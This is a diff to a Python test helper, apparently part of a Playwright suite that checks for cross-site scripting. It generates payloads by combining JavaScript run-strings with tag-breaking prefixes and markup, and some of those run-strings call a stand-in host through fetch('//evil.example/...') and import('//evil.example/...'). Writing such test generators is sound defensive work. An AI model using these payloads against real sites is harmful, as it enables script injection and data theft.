@@ -19,7 +19,14 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
 FEW, MANY, IN_A_REPORT = 60, 2_000, 20
-RUN = ("window.ran=1", "top.ran=1", "ran=1", "fetch('//evil.example/{0}')", "import('//evil.example/{0}')")
+RUN = (
+    "window.ran=1",
+    "top.ran=1",
+    "ran=1",
+    "Function('ran=1')()",
+    "fetch('//evil.example/{0}')",
+    "import('//evil.example/{0}')",
+)
 OPENED = (
     "",
     "</p>",
@@ -55,14 +62,14 @@ MARKUP = (
 
 
 def payloads() -> Iterator[str]:
-    """Payloads, no two alike."""
+    """Payloads, every way to run with every way out of a text and every markup."""
     for number, (run, opened, markup) in enumerate(product(RUN, OPENED, MARKUP)):
         yield opened + markup.format(run.format(number), number)
 
 
 def spread(count: int) -> list[str]:
     """So many payloads, from all of them evenly."""
-    every = list(payloads())
+    every = list(dict.fromkeys(payloads()))  # what runs nothing is the same whatever would be run
     return list(islice((every[round(i * len(every) / count) % len(every)] for i in range(count)), count))
 
 
